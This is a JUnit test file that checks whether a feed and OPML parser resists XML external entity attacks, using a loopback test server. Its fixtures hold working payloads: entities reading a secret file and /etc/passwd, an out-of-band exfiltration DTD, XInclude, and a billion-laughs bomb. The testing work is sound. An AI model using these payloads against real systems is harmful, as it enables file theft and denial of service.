package dossier.feed.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.xml.sax.SAXException;

import com.sun.net.httpserver.HttpServer;

import dossier.feed.FeedEntry;
import dossier.feed.FeedException;
import dossier.feed.FeedParser;
import dossier.feed.Opml;
import dossier.feed.ParsedFeed;
import dossier.feed.Subscription;
import dossier.feed.internal.SafeXml;

/**
 * XML external entities: feeds and OPML that declare entities pointing at a local file or at an HTTP server
 * on 127.0.0.1 never make the parser read them, and the secret never shows up in what is returned. The
 * server records every request, so a fetch attempt of any kind (DTD, entity, parameter entity, XInclude) is
 * seen even if its content were discarded.
 */
class XxeTest {

    private static final String SECRET = "TOP-SECRET-7f3a9c";

    private HttpServer server;
    private final List<String> requests = new CopyOnWriteArrayList<>();
    private String base;
    @TempDir
    Path tmp;
    private String secretFile;

    @BeforeEach
    void start() throws Exception {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            String path = exchange.getRequestURI().getPath();
            byte[] body = (path.endsWith(".dtd")
                    ? "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:" + server.getAddress().getPort()
                            + "/leak?%file;'>\">%all;"
                    : SECRET).getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
        Path f = tmp.resolve("secret.txt");
        Files.writeString(f, SECRET);
        secretFile = f.toUri().toString();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private List<String> hostileFeeds() {
        return List.of(
                // external general entity over HTTP
                "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM \"" + base + "/entity\">]>"
                        + "<rss version=\"2.0\"><channel><title>&xxe;</title><item><title>t &xxe;</title>"
                        + "<description>&xxe;</description></item></channel></rss>",
                // external general entity from a file, and /etc/passwd
                "<!DOCTYPE feed [<!ENTITY a SYSTEM \"" + secretFile + "\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]>"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>&a;</title><entry><title>&b;</title>"
                        + "<id>x</id><content>&a; &b;</content></entry></feed>",
                // parameter entity and an external DTD (the out-of-band exfiltration pattern)
                "<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY % file SYSTEM \"" + secretFile + "\">"
                        + "<!ENTITY % dtd SYSTEM \"" + base + "/evil.dtd\">%dtd;]>"
                        + "<rss version=\"2.0\"><channel><title>&send;</title><item><title>x</title></item></channel></rss>",
                // external DTD subset only
                "<!DOCTYPE rss SYSTEM \"" + base + "/rss.dtd\"><rss version=\"2.0\"><channel><title>t</title>"
                        + "<item><title>x</title></item></channel></rss>",
                // XInclude
                "<rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><channel><title>t</title><item>"
                        + "<title><xi:include href=\"" + base + "/xinclude\" parse=\"text\"/></title></item></channel></rss>",
                // ill-formed as well, so the lenient reader gets it
                "<!DOCTYPE rss [<!ENTITY xxe SYSTEM \"" + base + "/lenient\">]><rss><channel><title>&xxe;<item>"
                        + "<title>&xxe; & more</title></item>",
                // billion laughs: must neither hang nor blow up
                "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                        + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                        + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
                        + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
                        + "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
                        + "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
                        + "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
                        + "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
                        + "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>"
                        + "<rss version=\"2.0\"><channel><title>&lol9;</title><item><title>&lol9;</title></item>"
                        + "</channel></rss>");
    }

    @Test
    void feedsNeverFetchOrLeakExternalEntities() {
        for (String feed : hostileFeeds()) {
            assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
                try {
                    ParsedFeed f = FeedParser.parse(feed.getBytes(StandardCharsets.UTF_8), base + "/feed");
                    String all = f.toString();
                    assertFalse(all.contains(SECRET), all);
                    assertFalse(all.contains("root:"), all);
                    assertFalse(all.length() > 100_000, "entity expansion: " + all.length());
                    for (FeedEntry e : f.entries()) {
                        assertFalse(String.valueOf(e.title()).contains("lollol"), e.title());
                    }
                } catch (FeedException e) {
                    assertFalse(e.getMessage().contains(SECRET), e.getMessage());
                }
            });
        }
        assertEquals(List.of(), requests, "the parser contacted the test server");
    }

    @Test
    void strictParserRefusesAnyDoctype() {
        for (String feed : hostileFeeds()) {
            if (feed.contains("<!DOCTYPE")) {
                assertThrows(SAXException.class, () -> SafeXml.parse(feed));
            }
        }
        assertEquals(List.of(), requests, "the parser contacted the test server");
    }

    @Test
    void opmlNeverFetchesOrLeaks() throws Exception {
        String opml = "<?xml version=\"1.0\"?><!DOCTYPE opml [<!ENTITY xxe SYSTEM \"" + base + "/opml\">"
                + "<!ENTITY f SYSTEM \"" + secretFile + "\">]><opml version=\"2.0\"><body>"
                + "<outline text=\"&xxe;&f;\" xmlUrl=\"https://example.com/rss\"/></body></opml>";
        List<Subscription> subs = Opml.read(opml.getBytes(StandardCharsets.UTF_8));
        assertEquals(1, subs.size());
        assertFalse(subs.toString().contains(SECRET), subs.toString());
        assertEquals(List.of(), requests, "the OPML reader contacted the test server");
    }

    @Test
    void theTestServerDoesSeeRealFetches() throws Exception {
        // the detector works: a plain fetch is recorded
        try (var in = java.net.URI.create(base + "/probe").toURL().openStream()) {
            assertEquals(SECRET, new String(in.readAllBytes(), StandardCharsets.UTF_8));
        }
        assertEquals(List.of("GET /probe"), requests);
        requests.clear();
    }
}
